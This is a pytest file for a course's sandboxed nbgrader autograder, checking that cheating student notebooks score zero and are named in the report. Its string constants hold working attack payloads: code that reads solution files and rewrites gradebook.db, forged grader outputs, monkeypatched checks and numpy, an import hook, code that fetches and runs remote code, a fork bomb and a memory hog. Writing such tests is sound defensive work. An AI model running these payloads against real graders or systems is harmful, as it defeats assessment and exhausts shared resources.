"""Cheating submissions, autograded through the documented workflow: they score nothing.

Each submission is built from the **released** chapter 2 (``tools/assignments.py generate``),
as a student would hand it in, and the class is graded as the README says, with
``tools/assignments.py autograde --all`` (nbgrader autograde with the sandboxed grader). Every
attack of issue 24 is one student:

- one line in any cell, ``os.environ.pop("NBGRADER_EXECUTION")``; popping the grading
  variables; a ``helpers/`` folder next to an untouched notebook;
- an answer cell that reads ``source/`` and the repository's solutions, rewrites
  ``gradebook.db`` and prints what it read (feedback would carry it back);
- replacing the chapter's check functions, or the collector, from an answer cell; writing
  forged results straight into the outbox; IPython hooks (``post_run_cell``, a custom
  exception handler); numpy's comparisons and builtins patched to agree with anything; the
  checks' own judges and references switched off, and numpy's exp replaced; an
  import hook that serves a fake check module; an answer that fetches the solution from the
  network;
- an endless loop, a fork bomb and a memory hog (in a second run of their own, with an honest
  student beside them and a short time limit).

Each scores 0 for what it cheated on, and the report names what happened. Beside them, honest
students get full marks in the same runs (so the zeros are not a grader that fails
everything), a wrong answer loses that exercise only, a blank submission scores 0, and
``nbgrader export`` and the feedback say the same. About four minutes.
"""

from __future__ import annotations

import csv
import importlib.util
import json
import os
import re
import socket
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest
from grader_support import IN_CI, ROOT, require_sandbox

# Two autograde runs of a class (fourteen and four notebooks): minutes, more on a busy machine.
pytestmark = [pytest.mark.slow, pytest.mark.timeout(3000)]

TOOL = ROOT / "tools" / "assignments.py"
CHAPTER = "ch02"
NOTEBOOK = "02_sigmoid_tanh_vanishing_gradients.ipynb"
ANSWERS = ("ch02-sigmoid-prime-answer", "ch02-shrink-bound-answer", "ch02-tanh-init-answer")
CHECKS = ("ch02-sigmoid-prime-check", "ch02-shrink-bound-check", "ch02-tanh-init-check")
RIGHT = {
    "ch02-sigmoid-prime-answer": "def sigmoid_prime_from_output(s):\n    return s * (1 - s)\n",
    "ch02-shrink-bound-answer": "def sigmoid_shrink_bound(n_layers):\n"
                                "    return 0.25 ** np.asarray(n_layers, dtype=float)\n",
    "ch02-tanh-init-answer": "def tanh_init_std(fan_in, fan_out):\n"
                             "    return np.sqrt(2.0 / (fan_in + fan_out))\n",
}
# The same answers written another way: any allowed form earns the points.
RIGHT_OTHERWISE = {
    "ch02-sigmoid-prime-answer": "def sigmoid_prime_from_output(s):\n    return s - s * s\n",
    "ch02-shrink-bound-answer": "def sigmoid_shrink_bound(n_layers):\n"
                                "    return np.power(0.5, 2.0 * np.asarray(n_layers))\n",
    "ch02-tanh-init-answer": "import math\n\ndef tanh_init_std(fan_in, fan_out):\n"
                             "    return math.sqrt(2 / (fan_in + fan_out))\n",
}
SOLUTION_LINE = "return s * (1 - s)"
# The second run's time limit: an endless loop costs all of it, an honest chapter 2 takes
# about 10 s on an idle 2-core machine (several times that when the machine is busy).
LIMIT = 90

if importlib.util.find_spec("nbgrader") is None:
    if IN_CI:
        raise RuntimeError("nbgrader is not installed: CI must install the instructor extra")
    pytest.skip("nbgrader not installed: pip install -e '.[instructor]'", allow_module_level=True)


# --------------------------------------------------------------------------------------------
# Building submissions from the released notebook
# --------------------------------------------------------------------------------------------

def released(course: Path) -> dict:
    return json.loads((course / "release" / CHAPTER / NOTEBOOK).read_text(encoding="utf-8"))


def code_cell(source: str) -> dict:
    return {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [],
            "source": source}


def answer(nb: dict, answers: dict[str, str]) -> dict:
    for cell in nb["cells"]:
        grade_id = cell["metadata"].get("nbgrader", {}).get("grade_id")
        if grade_id in answers:
            cell["source"] = answers[grade_id]
    return nb


def insert(nb: dict, source: str, after: str | None = None) -> dict:
    """A new code cell after the cell ``after`` (a grade id), or after the setup cell."""
    at = 2
    if after is not None:
        at = 1 + next(i for i, c in enumerate(nb["cells"])
                      if c["metadata"].get("nbgrader", {}).get("grade_id") == after)
    nb["cells"].insert(at, code_cell(source))
    return nb


def insert_first(nb: dict, source: str) -> dict:
    """A new code cell before the setup cell (after the title)."""
    nb["cells"].insert(1, code_cell(source))
    return nb


def append(nb: dict, source: str) -> dict:
    nb["cells"].append(code_cell(source))
    return nb


ENV_POP = 'import os\nos.environ.pop("NBGRADER_EXECUTION", None)\n'
GRADING_POP = """import os
from helpers.exercises import _core
os.environ.pop("AFC_GRADING_INBOX", None)
os.environ.pop("AFC_GRADING_OUTBOX", None)
os.environ.pop("NBGRADER_EXECUTION", None)
_core.grading = lambda: False
"""
FAKE_HELPERS = {
    "helpers/__init__.py": "",
    "helpers/exercises/__init__.py": "",
    "helpers/exercises/ch02.py": (
        "def _ok(*args, **kwargs):\n    print('\\u2705 right on every case')\n\n"
        "check_sigmoid_prime_from_output = check_sigmoid_shrink_bound = _ok\n"
        "check_tanh_init_std = _ok\n"),
}
READ_SOLUTIONS = """import glob, sqlite3
found = []
for pattern in ({course!r} + "/source/*/*.ipynb", {course!r} + "/gradebook.db",
                {repo!r} + "/notebooks/*.ipynb", {course!r} + "/submitted/*/*/*.ipynb",
                {course!r} + "/autograded/*/*/*.ipynb", "/root/**/*.ipynb"):
    found += glob.glob(pattern, recursive=True)
print("found:", found)
for path in found:
    print(open(path, encoding="utf-8", errors="replace").read())
try:
    db = sqlite3.connect({course!r} + "/gradebook.db")
    db.execute("update grade set manual_score = 1")
    db.commit()
    print("gradebook rewritten")
except Exception as err:
    print("gradebook:", type(err).__name__, err)

def sigmoid_prime_from_output(s):
    raise NotImplementedError()
"""
REPLACE_CHECKS = """from helpers.exercises import ch02

def _ok(*args, **kwargs):
    print("\\u2705 right on every case")

ch02.check_sigmoid_prime_from_output = ch02.check_sigmoid_shrink_bound = _ok
ch02.check_tanh_init_std = _ok
"""
REPLACE_COLLECTOR = """import os
from pathlib import Path
from helpers.exercises import _plain, _spec

def forged(spec, answers):
    cases = _plain.read(Path(os.environ["AFC_GRADING_INBOX"]), spec.grade_id)
    records = [{"status": "returned", "result": 0.25, "error": "", "mutated": [],
                "trace": {"complete": True, "lines": 1, "calls": 1}} for _ in cases]
    _plain.write(Path(os.environ["AFC_GRADING_OUTBOX"]), spec.grade_id, records)
    print("\\u2705 right on every case")

_spec.collect = forged
_spec.Spec.verdict = lambda *args, **kwargs: None
"""
FORGE_OUTBOX = """import os
from pathlib import Path
from helpers.exercises import _plain
inbox, outbox = Path(os.environ["AFC_GRADING_INBOX"]), Path(os.environ["AFC_GRADING_OUTBOX"])
for path in sorted(inbox.glob("*.json")):
    cases = _plain.read(inbox, path.stem)
    _plain.write(outbox, path.stem, [
        {"status": "returned", "result": case["args"][0], "error": "", "mutated": [],
         "trace": {"complete": True, "lines": 1, "calls": 1}} for case in cases])
print("forged", sorted(p.name for p in outbox.glob("*.json")))
"""
# Wrong answers, with numpy's comparisons and a few builtins made to agree with anything:
# in a check that judged in the student's kernel, these would pass.
PATCH_NUMPY = """import builtins
import numpy as np
np.allclose = np.array_equal = lambda *args, **kwargs: True
np.isclose = lambda a, b, *args, **kwargs: np.ones(np.shape(a), dtype=bool)
builtins.all = builtins.any = lambda *args, **kwargs: True
"""
# Wrong answers, with the checks' judges and references switched off in the kernel (frozen
# specs, changed all the same) and numpy's exp made the answer's: in the notebook each check
# prints a tick for any result; the grader's judges and references are out of reach.
PATCH_JUDGES = """import numpy as np
from helpers.exercises import ch02
for spec in (ch02.SIGMOID_PRIME, ch02.SHRINK_BOUND, ch02.TANH_INIT):
    for part in ("judge", "judge_all", "reference", "reference_case"):
        if getattr(spec, part, None) is not None:
            object.__setattr__(spec, part, lambda *args, **kwargs: None)
np.exp = lambda x, *args, **kwargs: x
"""
WRONG = {
    "ch02-sigmoid-prime-answer": "def sigmoid_prime_from_output(s):\n    return s\n",
    "ch02-shrink-bound-answer": "def sigmoid_shrink_bound(n_layers):\n    return n_layers\n",
    "ch02-tanh-init-answer": "def tanh_init_std(fan_in, fan_out):\n    return 1.0\n",
}
# An import hook installed before the setup cell: `from helpers.exercises import ch02` then
# gives a module of the student's whose checks print a tick.
IMPORT_HOOK = """import importlib.abc, importlib.machinery, sys, types

class FakeChecks(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path, target=None):
        if name == "helpers.exercises.ch02":
            return importlib.machinery.ModuleSpec(name, self)
        return None

    def create_module(self, spec):
        module = types.ModuleType(spec.name)
        ok = lambda *args, **kwargs: print("\\u2705 right on every case")
        module.check_sigmoid_prime_from_output = module.check_sigmoid_shrink_bound = ok
        module.check_tanh_init_std = ok
        return module

    def exec_module(self, module):
        pass

sys.meta_path.insert(0, FakeChecks())
"""
HOOKS = """ip = get_ipython()
ip.set_custom_exc((BaseException,), lambda *args, **kwargs: print("\\u2705 passed"))
ip.events.register("post_run_cell", lambda result: print("\\u2705 all checks passed"))
"""
NETWORK = """import socket, urllib.request
for target in (("127.0.0.1", {port}), ("1.1.1.1", 443)):
    try:
        socket.create_connection(target, timeout=5)
        print("connected to", target)
    except OSError as err:
        print("no connection to", target, "-", err)
exec(urllib.request.urlopen({url!r}, timeout=5).read().decode())
"""
SOLUTION_URL = ("https://raw.githubusercontent.com/activation-functions-course/"
                "activation-functions-course/main/notebooks/02_sigmoid_tanh_vanishing_gradients"
                ".ipynb")
ENDLESS = "def sigmoid_prime_from_output(s):\n    while True:\n        pass\n"
FORK_BOMB = ("import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n"
             "        pass\n")
MEMORY_HOG = "blocks = []\nwhile True:\n    blocks.append(b'x' * (32 * 2**20))\n"


def submissions(course: Path, port: int) -> dict[str, tuple[dict, dict[str, str]]]:
    """student -> (notebook, extra files) for the first run."""
    def nb():
        return released(course)

    return {
        "honest": (answer(nb(), RIGHT), {}),
        "blank": (nb(), {}),
        "one-wrong": (answer(nb(), {**RIGHT, ANSWERS[0]: (
            "def sigmoid_prime_from_output(s):\n    return s * (1 + s)\n")}), {}),
        "env-pop": (insert(nb(), ENV_POP), {}),
        "grading-pop": (insert(insert(nb(), REPLACE_CHECKS), GRADING_POP), {}),
        "helpers-folder": (nb(), FAKE_HELPERS),
        "reads-solutions": (answer(nb(), {ANSWERS[0]: READ_SOLUTIONS.format(
            course=str(course), repo=str(ROOT))}), {}),
        "replaces-checks": (answer(nb(), {ANSWERS[0]: REPLACE_CHECKS}), {}),
        "replaces-collector": (answer(nb(), {ANSWERS[0]: REPLACE_COLLECTOR}), {}),
        "forges-outbox": (append(nb(), FORGE_OUTBOX), {}),
        "ipython-hooks": (insert(nb(), HOOKS), {}),
        "patches-numpy": (insert(answer(nb(), WRONG), PATCH_NUMPY), {}),
        "patches-judges": (insert(answer(nb(), WRONG), PATCH_JUDGES), {}),
        "import-hook": (insert_first(nb(), IMPORT_HOOK), {}),
        "network": (answer(nb(), {**RIGHT, ANSWERS[0]: NETWORK.format(
            port=port, url=SOLUTION_URL)}), {}),
    }


STUDENTS = ("honest", "blank", "one-wrong", "env-pop", "grading-pop", "helpers-folder",
            "reads-solutions", "replaces-checks", "replaces-collector", "forges-outbox",
            "ipython-hooks", "patches-numpy", "patches-judges", "import-hook", "network")


def runaways(course: Path) -> dict[str, tuple[dict, dict[str, str]]]:
    """student -> (notebook, extra files) for the second run (short limits)."""
    return {
        "honest-otherwise": (answer(released(course), RIGHT_OTHERWISE), {}),
        "endless-loop": (answer(released(course), {**RIGHT, ANSWERS[0]: ENDLESS}), {}),
        "fork-bomb": (answer(released(course), {ANSWERS[0]: FORK_BOMB}), {}),
        "memory-hog": (answer(released(course), {ANSWERS[0]: MEMORY_HOG}), {}),
    }


def submit(course: Path, student: str, nb: dict, extra: dict[str, str]) -> None:
    folder = course / "submitted" / student / CHAPTER
    folder.mkdir(parents=True)
    (folder / NOTEBOOK).write_text(json.dumps(nb), encoding="utf-8")
    (folder / "timestamp.txt").write_text("2026-12-01 08:00:00.000000 UTC")
    for name, text in extra.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(text)


# --------------------------------------------------------------------------------------------
# The class, graded twice (once per fixture), as the instructor does it
# --------------------------------------------------------------------------------------------

def tool(course: Path, *args: str, timeout: float = 1800) -> subprocess.CompletedProcess:
    env = {**os.environ, "NBGRADER_COURSE_DIR": str(course)}
    return subprocess.run([sys.executable, str(TOOL), *args], cwd=ROOT, env=env,
                          capture_output=True, text=True, timeout=timeout)


def by_student(stdout: str) -> dict[str, str]:
    """The report of `autograde --all`, cut into each student's part."""
    parts = re.split(r"^== (\S+)\n", stdout, flags=re.M)
    return dict(zip(parts[1::2], parts[2::2]))


def score(text: str) -> tuple[float, float]:
    found = re.search(rf"^{CHAPTER}: (\S+) / (\S+)", text, re.M)
    assert found, text
    return float(found.group(1)), float(found.group(2))


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    require_sandbox()
    root = tmp_path_factory.mktemp("attacks")
    made = tool(root, "generate", "--only", CHAPTER, timeout=600)
    assert made.returncode == 0, made.stdout + made.stderr
    return root


@pytest.fixture(scope="module")
def graded(course):
    """The attacks and two honest students (one right, one wrong answer), in one run."""
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    listener.setblocking(False)
    for student, (nb, extra) in submissions(course, listener.getsockname()[1]).items():
        submit(course, student, nb, extra)
    run = tool(course, "autograde", "--all", "--only", CHAPTER)
    try:
        listener.accept()
        reached = True
    except BlockingIOError:
        reached = False
    listener.close()
    return run, by_student(run.stdout), reached


@pytest.fixture(scope="module")
def runaway(graded, course):
    """The endless loop, the fork bomb and the memory hog, with an honest student, graded in
    one run (these four only) with a short time limit per notebook and 1 GB of memory."""
    for student, (nb, extra) in runaways(course).items():
        submit(course, student, nb, extra)
    run = tool(course, "autograde", *runaways(course), "--only", CHAPTER, "--time-limit",
               str(LIMIT), "--memory-limit", "1024")
    return run, by_student(run.stdout)


def autograded(course: Path, student: str) -> dict:
    path = course / "autograded" / student / CHAPTER / NOTEBOOK
    return json.loads(path.read_text(encoding="utf-8"))


def text(value) -> str:
    """An output's text as nbformat stores it (a string, or a list of lines)."""
    return "".join(value) if isinstance(value, list) else str(value)


def check_outputs(nb: dict) -> dict[str, list[dict]]:
    return {c["metadata"]["nbgrader"]["grade_id"]: c["outputs"] for c in nb["cells"]
            if c["metadata"].get("nbgrader", {}).get("grade_id") in CHECKS}


def printed(nb: dict) -> str:
    """Everything the cells of a graded notebook printed."""
    return "".join(text(o.get("text", "")) for c in nb["cells"] for o in c.get("outputs", [])
                   if o["output_type"] == "stream")


# --------------------------------------------------------------------------------------------
# The honest students, and the grader's verdicts in the graded notebook
# --------------------------------------------------------------------------------------------

def test_the_run_grades_everyone_and_exits_zero(graded):
    run, students, _ = graded
    assert run.returncode == 0, run.stdout[-3000:] + run.stderr[-3000:]
    assert set(students) == set(STUDENTS), sorted(students)


def test_an_honest_student_gets_full_marks_and_a_wrong_answer_loses_one(graded, course):
    _, students, _ = graded
    assert score(students["honest"]) == (3.0, 3.0), students["honest"]
    assert score(students["one-wrong"]) == (2.0, 3.0), students["one-wrong"]
    assert "failed ch02-sigmoid-prime-check" in students["one-wrong"]
    assert "differs from sigma'(x)" in students["one-wrong"]
    assert score(students["blank"]) == (0.0, 3.0)
    assert students["blank"].count("is not answered yet") == 3
    # In the graded notebook each check cell holds the grader's verdict and nothing else.
    outputs = check_outputs(autograded(course, "one-wrong"))
    assert [o["output_type"] for o in outputs["ch02-sigmoid-prime-check"]] == ["error"]
    for grade_id in CHECKS[1:]:
        (out,) = outputs[grade_id]
        assert out["output_type"] == "stream" and text(out["text"]).startswith("\u2705")


# --------------------------------------------------------------------------------------------
# The attacks: 0 for what was cheated, and the report names it
# --------------------------------------------------------------------------------------------

@pytest.mark.parametrize("student, named", [
    ("env-pop", ["touches the process environment", 'os.environ.pop("NBGRADER_EXECUTION"',
                 "is not answered yet"]),
    ("grading-pop", ["touches the process environment", "AFC_GRADING_INBOX",
                     "no results reached the grader"]),
    ("replaces-checks", ["touches the checks' internals", "ch02.check_sigmoid_prime_from_output"
                         " = ", "no results reached the grader"]),
    ("replaces-collector", ["touches the checks' internals", "from helpers.exercises import "
                            "_plain, _spec", "with n_layers = 8 is 0.25, expected 1.52588e-05"]),
    ("forges-outbox", ["touches the process environment", "AFC_GRADING_INBOX",
                       "cell 81 (code) added", "with n_layers = 8 is 8, expected"]),
    ("ipython-hooks", ["touches IPython's hooks: `ip.set_custom_exc(", "(and 1 more line(s))",
                       "is not answered yet"]),
    ("patches-numpy", ["touches the interpreter's machinery: `import builtins`",
                       "failed ch02-shrink-bound-check"]),
    ("patches-judges", ["failed ch02-sigmoid-prime-check", "failed ch02-shrink-bound-check",
                        "failed ch02-tanh-init-check"]),
    ("import-hook", ["touches the interpreter's machinery: `import importlib.abc",
                     "no results reached the grader"]),
], ids=lambda v: v if isinstance(v, str) else None)
def test_a_cheat_in_the_kernel_scores_nothing_and_is_named(graded, course, student, named):
    _, students, _ = graded
    report = students[student]
    assert score(report) == (0.0, 3.0), report
    for words in named:
        assert words in report, f"{student}: the report does not say {words!r}:\n{report}"
    # Whatever the kernel printed in the check cells, the graded copy holds only verdicts.
    for grade_id, outs in check_outputs(autograded(course, student)).items():
        assert [o["output_type"] for o in outs] == ["error"], (grade_id, outs)


def test_a_helpers_folder_next_to_the_notebook_is_listed_and_never_used(graded):
    _, students, _ = graded
    report = students["helpers-folder"]
    assert score(report) == (0.0, 3.0), report
    assert ("extra files (listed, never used): helpers/__init__.py, "
            "helpers/exercises/__init__.py, helpers/exercises/ch02.py") in report, report
    assert report.count("is not answered yet") == 3


def test_an_answer_cannot_read_the_solutions_or_touch_the_gradebook(graded, course):
    _, students, _ = graded
    report = students["reads-solutions"]
    assert score(report) == (0.0, 3.0), report
    assert "touches nbgrader's files" in report
    said = printed(autograded(course, "reads-solutions"))
    assert "found: []" in said, said[:2000]
    assert "gradebook: OperationalError" in said, said[:2000]
    assert SOLUTION_LINE not in json.dumps(autograded(course, "reads-solutions"))
    # The gradebook is untouched: no score set by hand, the honest student's grades intact.
    with sqlite3.connect(course / "gradebook.db") as db:
        assert db.execute("select count(*) from grade where manual_score is not null"
                          ).fetchone()[0] == 0


def test_an_answer_cannot_reach_the_network(graded, course):
    _, students, reached = graded
    report = students["network"]
    # Only the cheated exercise is lost: the other two answers are right.
    assert score(report) == (2.0, 3.0), report
    assert "failed ch02-sigmoid-prime-check" in report and "touches the network" in report
    assert not reached, "a notebook in the sandbox connected to a server on the host"
    said = printed(autograded(course, "network"))
    assert "no connection to ('127.0.0.1'" in said and "no connection to ('1.1.1.1'" in said
    assert "Network is unreachable" in said


def test_feedback_shows_the_verdicts_and_nothing_the_sandbox_could_not_read(graded, course):
    for student in ("one-wrong", "reads-solutions"):
        made = subprocess.run(
            [sys.executable, "-m", "nbgrader", "generate_feedback", CHAPTER,
             f"--student={student}", "--force", f"--CourseDirectory.root={course}"],
            cwd=ROOT, capture_output=True, text=True, timeout=600)
        assert made.returncode == 0, made.stdout + made.stderr
    page = (course / "feedback" / "one-wrong" / CHAPTER / NOTEBOOK.replace(".ipynb", ".html")
            ).read_text(encoding="utf-8")
    assert "differs from sigma" in page and "Score: 2.0 / 3.0" in page.replace("\n", " ")
    leaked = (course / "feedback" / "reads-solutions" / CHAPTER /
              NOTEBOOK.replace(".ipynb", ".html")).read_text(encoding="utf-8")
    assert SOLUTION_LINE not in leaked


# --------------------------------------------------------------------------------------------
# Runaway notebooks: stopped, reported, and the rest of the class graded
# --------------------------------------------------------------------------------------------

@pytest.mark.parametrize("student, reason", [
    ("endless-loop", f"did not finish within {LIMIT} s"),
    ("fork-bomb", "started 128 processes and threads, the limit"),
    ("memory-hog", "used more than 1024 MB of memory"),
])
def test_a_runaway_notebook_scores_zero_and_is_reported(runaway, student, reason):
    run, students = runaway
    report = students[student]
    assert score(report) == (0.0, 3.0), report
    assert f"NOT GRADED: {NOTEBOOK[:-6]}: the notebook {reason}" in report, report
    assert report.count("every check scored 0") == 1
    assert f"{student} {CHAPTER}" in run.stderr


def test_the_rest_of_the_class_is_graded_and_the_run_exits_one(runaway):
    run, students = runaway
    assert run.returncode == 1, run.stdout[-3000:] + run.stderr[-3000:]
    assert score(students["honest-otherwise"]) == (3.0, 3.0), students["honest-otherwise"]
    assert "NOT GRADED" not in students["honest-otherwise"]


def test_nbgrader_export_gives_the_same_scores(runaway, graded, course):
    out = course / "grades.csv"
    made = subprocess.run(
        [sys.executable, "-m", "nbgrader", "export", f"--to={out}",
         f"--CourseDirectory.root={course}"], cwd=ROOT, capture_output=True, text=True,
        timeout=600)
    assert made.returncode == 0, made.stdout + made.stderr
    rows = {r["student_id"]: r for r in csv.DictReader(out.open()) if r["assignment"] == CHAPTER}
    _, first, _ = graded
    _, second = runaway
    for student, text in {**first, **second}.items():
        got, total = score(text)
        assert float(rows[student]["score"]) == got, (student, rows[student])
        assert float(rows[student]["max_score"]) == total
    assert float(rows["honest"]["score"]) == 3.0 and float(rows["fork-bomb"]["score"]) == 0.0
